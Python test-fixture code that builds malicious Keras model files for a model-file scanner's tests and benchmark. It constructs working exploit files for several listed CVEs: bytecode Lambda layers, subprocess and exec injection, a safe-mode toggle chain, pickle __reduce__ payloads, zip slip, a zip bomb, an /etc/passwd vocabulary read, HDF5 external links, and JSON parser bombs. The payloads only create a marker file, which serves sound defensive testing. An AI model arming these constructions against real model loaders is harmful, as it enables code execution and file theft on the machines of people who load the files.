"""Hostile model files for tests, the demo and the benchmark, built in-process.

Each builder writes one file into a directory. Every payload is inert beyond
proof of execution: it only creates the ``marker`` path it is given, so a test
can show that nothing ran. Nothing here is a live exploit to be committed; the
files exist only in temporary directories.
"""

from __future__ import annotations

import base64
import copy
import functools
import io
import json
import marshal
import os
import pathlib
import pickle
import tempfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

__all__ = ["CONFIG_BOMBS", "EXPECTED", "HOSTILE", "Parts", "clean_parts", "config_bomb", "values_of",
           "write_keras"]


@dataclass(frozen=True)
class Parts:
    """The members of a clean, loadable ``.keras`` file: a Sequential 4 -> Dense(2)."""

    config: dict[str, Any]
    metadata: bytes
    weights: bytes


@functools.lru_cache(maxsize=1)
def clean_parts() -> Parts:
    """Save a tiny real Keras model once (imports keras) and return its members."""
    import keras

    model = keras.Sequential([keras.Input((4,)), keras.layers.Dense(2, name="dense")], name="clean")
    with tempfile.TemporaryDirectory() as tmp:
        path = os.path.join(tmp, "m.keras")
        model.save(path)
        with zipfile.ZipFile(path) as zf:
            return Parts(json.loads(zf.read("config.json")), zf.read("metadata.json"),
                         zf.read("model.weights.h5"))


def write_keras(path: pathlib.Path, parts: Parts, config: Any = None,
                extra: tuple[tuple[str, bytes], ...] = (), weights: bytes | None = None,
                *, deflate_config: bool = False) -> pathlib.Path:
    """Write a ``.keras`` zip from ``parts``, optionally replacing the config or weights."""
    cfg = parts.config if config is None else config
    raw = cfg if isinstance(cfg, bytes) else json.dumps(cfg).encode()
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("metadata.json", parts.metadata)
        zf.writestr("config.json", raw, zipfile.ZIP_DEFLATED if deflate_config else zipfile.ZIP_STORED)
        zf.writestr("model.weights.h5", parts.weights if weights is None else weights)
        for name, data in extra:
            zf.writestr(name, data)
    return path


def _touch_code(marker: pathlib.Path) -> str:
    fn = eval(f"lambda x: (__import__('pathlib').Path({str(marker)!r}).touch(), x)[1]")
    return base64.b64encode(marshal.dumps(fn.__code__)).decode("ascii")


def _lambda_layer(marker: pathlib.Path, name: str = "lam") -> dict[str, Any]:
    return {
        "module": "keras.layers", "class_name": "Lambda", "registered_name": None,
        "config": {"name": name, "trainable": True, "dtype": "float32", "arguments": {},
                   "function": {"class_name": "__lambda__",
                                "config": {"code": _touch_code(marker), "defaults": None, "closure": None}}},
        "build_config": {"input_shape": [None, 4]},
    }


def _with_layer(parts: Parts, layer: dict[str, Any], index: int = 1) -> dict[str, Any]:
    cfg = copy.deepcopy(parts.config)
    cfg["config"]["layers"].insert(index, layer)
    return cfg


def lambda_bytecode(d: pathlib.Path, marker: pathlib.Path) -> pathlib.Path:
    """A Lambda layer whose marshalled bytecode creates ``marker`` (CVE-2024-3660)."""
    cfg = _with_layer(clean_parts(), _lambda_layer(marker))
    return write_keras(d / "lambda_bytecode.keras", clean_parts(), cfg)


def subprocess_module(d: pathlib.Path, marker: pathlib.Path) -> pathlib.Path:
    """A layer whose module is ``subprocess`` (CVE-2025-1550 style)."""
    layer = {"module": "subprocess", "class_name": "Popen", "registered_name": None,
             "config": {"args": ["touch", str(marker)]}}
    return write_keras(d / "subprocess_module.keras", clean_parts(), _with_layer(clean_parts(), layer))


def nested_lambda(d: pathlib.Path, marker: pathlib.Path) -> pathlib.Path:
    """A bytecode Lambda two Sequential models deep."""
    inner2 = {"module": "keras", "class_name": "Sequential", "registered_name": None,
              "config": {"name": "inner2", "layers": [_lambda_layer(marker)]}}
    inner1 = {"module": "keras", "class_name": "Sequential", "registered_name": None,
              "config": {"name": "inner1", "layers": [inner2]}}
    return write_keras(d / "nested_lambda.keras", clean_parts(), _with_layer(clean_parts(), inner1))


def exec_initializer(d: pathlib.Path, marker: pathlib.Path) -> pathlib.Path:
    """``builtins.exec`` as the Dense layer's kernel initializer."""
    cfg = copy.deepcopy(clean_parts().config)
    for layer in cfg["config"]["layers"]:
        if layer["class_name"] == "Dense":
            layer["config"]["kernel_initializer"] = {
                "module": "builtins", "class_name": "function", "config": "exec",
                "registered_name": "function"}
    return write_keras(d / "exec_initializer.keras", clean_parts(), cfg)


def unsafe_toggle(d: pathlib.Path, marker: pathlib.Path) -> pathlib.Path:
    """A Lambda calling ``keras.config.enable_unsafe_deserialization``, then a bytecode Lambda.

    The CVE-2025-9906 chain: switch safe mode off, then load bytecode.
    """
    toggle = _lambda_layer(marker, "toggle")
    toggle["config"]["function"] = {"module": "keras.config", "class_name": "function",
                                    "config": "enable_unsafe_deserialization", "registered_name": "function"}
    cfg = _with_layer(clean_parts(), toggle)
    cfg["config"]["layers"].insert(2, _lambda_layer(marker, "payload"))
    return write_keras(d / "unsafe_toggle.keras", clean_parts(), cfg)


def zip_slip(d: pathlib.Path, marker: pathlib.Path) -> pathlib.Path:
    """Members named ``../<marker name>``, an absolute path and a backslash path."""
    rel = os.path.relpath(marker, d / "extract")
    extra = ((f"assets/../../{rel}", b"slipped"), (str(marker), b"slipped"), ("assets\\..\\..\\x", b"x"))
    return write_keras(d / "zip_slip.keras", clean_parts(), extra=extra)


def zip_bomb(d: pathlib.Path, marker: pathlib.Path, size: int = 64 << 20) -> pathlib.Path:
    """An asset declaring ``size`` bytes of zeros stored in ~1/1000 of that (deflate)."""
    path = write_keras(d / "zip_bomb.keras", clean_parts())
    with zipfile.ZipFile(path, "a", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as zf, \
            zf.open("assets/vocab.txt", "w", force_zip64=True) as member:
        chunk = bytes(1 << 20)
        for _ in range(size >> 20):
            member.write(chunk)
    return path


def vocabulary_file(d: pathlib.Path, marker: pathlib.Path) -> pathlib.Path:
    """A StringLookup whose vocabulary is ``/etc/passwd`` (CVE-2025-12058)."""
    layer = {"module": "keras.layers", "class_name": "StringLookup", "registered_name": None,
             "config": {"name": "lookup", "vocabulary": "/etc/passwd", "num_oov_indices": 1,
                        "output_mode": "int"}}
    return write_keras(d / "vocabulary_file.keras", clean_parts(), _with_layer(clean_parts(), layer))


class _Touch:
    def __init__(self, marker: pathlib.Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return (pathlib.Path.touch, (pathlib.Path(self.marker),))


def pickle_renamed(d: pathlib.Path, marker: pathlib.Path) -> pathlib.Path:
    """A pickle whose ``__reduce__`` creates ``marker``, renamed ``.keras``."""
    path = d / "pickle_renamed.keras"
    path.write_bytes(pickle.dumps(_Touch(marker), protocol=4))
    return path


def legacy_h5_lambda(d: pathlib.Path, marker: pathlib.Path) -> pathlib.Path:
    """A legacy (Keras 2 style) HDF5 model whose Lambda carries bytecode (CVE-2025-9905)."""
    import h5py

    config = {"class_name": "Sequential", "config": {"name": "legacy", "layers": [
        {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "dtype": "float32",
                                                "name": "in"}},
        {"class_name": "Lambda", "config": {"name": "lam", "trainable": True, "dtype": "float32",
                                            "function": [_touch_code(marker), None, None],
                                            "function_type": "lambda", "module": "__main__",
                                            "output_shape": None, "arguments": {}}}]}}
    path = d / "legacy_lambda.h5"
    with h5py.File(path, "w") as f:
        f.attrs["model_config"] = json.dumps(config)
        f.attrs["keras_version"] = "2.12.0"
        f.attrs["backend"] = "tensorflow"
        g = f.create_group("model_weights")
        g.attrs["layer_names"] = [b"lam"]
        g.create_group("lam").attrs["weight_names"] = []
    return path


def _weights_with(edit: Callable[[Any], None]) -> bytes:
    import h5py

    buf = io.BytesIO(clean_parts().weights)
    with h5py.File(buf, "r+") as f:
        edit(f)
    return buf.getvalue()


def hdf5_external_link(d: pathlib.Path, marker: pathlib.Path) -> pathlib.Path:
    """Weights whose kernel is an HDF5 external link to another file (CVE-2026-1669 family)."""
    import h5py

    def edit(f: Any) -> None:
        del f["layers/dense/vars/0"]
        f["layers/dense/vars/0"] = h5py.ExternalLink(str(marker), "/secret")

    return write_keras(d / "hdf5_external_link.keras", clean_parts(), weights=_weights_with(edit))


def hdf5_external_storage(d: pathlib.Path, marker: pathlib.Path) -> pathlib.Path:
    """Weights whose kernel's raw data lives in an external file (CVE-2026-1669)."""
    def edit(f: Any) -> None:
        del f["layers/dense/vars/0"]
        f["layers/dense/vars"].create_dataset("0", shape=(4, 2), dtype="float32",
                                              external=[(str(marker), 0, 32)])

    return write_keras(d / "hdf5_external_storage.keras", clean_parts(), weights=_weights_with(edit))


def torch_wrapper(d: pathlib.Path, marker: pathlib.Path) -> pathlib.Path:
    """A TorchModuleWrapper whose ``module`` is a base64 pickle creating ``marker`` (CVE-2025-49655)."""
    blob = base64.b64encode(pickle.dumps(_Touch(marker), protocol=4)).decode("ascii")
    layer = {"module": "keras.layers", "class_name": "TorchModuleWrapper", "registered_name": None,
             "config": {"name": "torch", "module": blob, "output_shape": None}}
    return write_keras(d / "torch_wrapper.keras", clean_parts(), _with_layer(clean_parts(), layer))


#: name -> builder(directory, marker) -> path of the hostile file.
HOSTILE: dict[str, Callable[[pathlib.Path, pathlib.Path], pathlib.Path]] = {
    "lambda_bytecode": lambda_bytecode,
    "subprocess_module": subprocess_module,
    "nested_lambda": nested_lambda,
    "exec_initializer": exec_initializer,
    "unsafe_toggle": unsafe_toggle,
    "zip_slip": zip_slip,
    "zip_bomb": zip_bomb,
    "vocabulary_file": vocabulary_file,
    "pickle_renamed": pickle_renamed,
    "legacy_h5_lambda": legacy_h5_lambda,
    "hdf5_external_link": hdf5_external_link,
    "hdf5_external_storage": hdf5_external_storage,
    "torch_wrapper": torch_wrapper,
}

#: name -> a finding code the scan must report for it.
EXPECTED: dict[str, str] = {
    "lambda_bytecode": "artifact.lambda_layer",
    "subprocess_module": "artifact.unsafe_module",
    "nested_lambda": "artifact.lambda_layer",
    "exec_initializer": "artifact.unsafe_function",
    "unsafe_toggle": "artifact.non_modelling_api",
    "zip_slip": "artifact.zip_slip",
    "zip_bomb": "artifact.zip_bomb",
    "vocabulary_file": "artifact.vocabulary_file",
    "pickle_renamed": "artifact.pickle",
    "legacy_h5_lambda": "artifact.lambda_layer",
    "hdf5_external_link": "artifact.hdf5_external_link",
    "hdf5_external_storage": "artifact.hdf5_external_storage",
    "torch_wrapper": "artifact.unsafe_layer",
}


_HEAD = b'{"class_name": "Sequential", "config": {"layers": ['
_TAIL = b"[]]}}"
_NAME = b'{"class_name": "Sequential", "config": {"name": "'


def _fill(unit: bytes, size: int, head: bytes = _HEAD, tail: bytes = _TAIL) -> bytes:
    return head + unit * max(0, (size - len(head) - len(tail)) // len(unit)) + tail


def _whitespace_lists(size: int) -> bytes:
    """Empty lists separated by random whitespace: deflates only ~20x, so no zip-bomb rule fires."""
    import numpy as np

    n = size // 4
    units = np.frombuffer(b"[], " * n, dtype=np.uint8).reshape(n, 4).copy()
    units[:, 3] = np.frombuffer(b" \n", dtype=np.uint8)[np.random.default_rng(0).integers(0, 2, n)]
    return _HEAD + units.tobytes() + _TAIL


def _keyed_lists(size: int) -> bytes:
    n = size // 15
    body = b",".join(b'"k%07d": []' % i for i in range(n))
    return b'{"class_name": "Sequential", "config": {' + body + b"}}"


def _many_keys(size: int) -> bytes:
    n = size // 14
    return b"{" + b",".join(b'"%08d": 0' % i for i in range(n)) + b', "class_name": "Sequential"}'


#: Hostile ``config.json`` shapes of issue 20 (time and memory before any limit applied):
#: name -> builder(size in bytes) -> JSON bytes of about that size.
CONFIG_BOMBS: dict[str, Callable[[int], bytes]] = {
    "empty_lists": lambda size: _fill(b"[],", size),
    "empty_lists_whitespace": _whitespace_lists,
    "empty_objects": lambda size: _fill(b"{},", size),
    "keyed_empty_lists": _keyed_lists,
    "many_keys": _many_keys,
    "zeros": lambda size: _fill(b"0,", size),
    "deep_nesting": lambda size: b"[" * (size // 2) + b"]" * (size // 2),
    "deep_objects": lambda size: b'{"a":' * (size // 6) + b"}" * (size // 6),
    "long_string": lambda size: _fill(b"A", size, _NAME, b'"}}'),
    "long_escapes": lambda size: _fill(b"\\u00e9", size, _NAME, b'"}}'),
}


def values_of(raw: bytes) -> int:
    """The scan's pre-parse count of JSON values and keys in ``raw``."""
    return raw.count(b",") + raw.count(b":") + raw.count(b"[") + raw.count(b"{") + 1


def config_bomb(d: pathlib.Path, shape: str, size: int, *, deflate: bool = False,
                values: int | None = None) -> pathlib.Path:
    """A ``.keras`` file whose ``config.json`` is ``CONFIG_BOMBS[shape]`` at ``size`` bytes.

    With ``values``, the size is scaled down so the config holds about that many values
    (just under a ``max_json_nodes`` limit: the largest such config the scan parses).
    """
    raw = CONFIG_BOMBS[shape](size)
    if values is not None and values_of(raw) > values:
        raw = CONFIG_BOMBS[shape](int(size * values / values_of(raw)) - 64)
    path = d / f"bomb_{shape}_{len(raw)}{'_deflated' if deflate else ''}.keras"
    return write_keras(path, clean_parts(), raw, deflate_config=deflate)
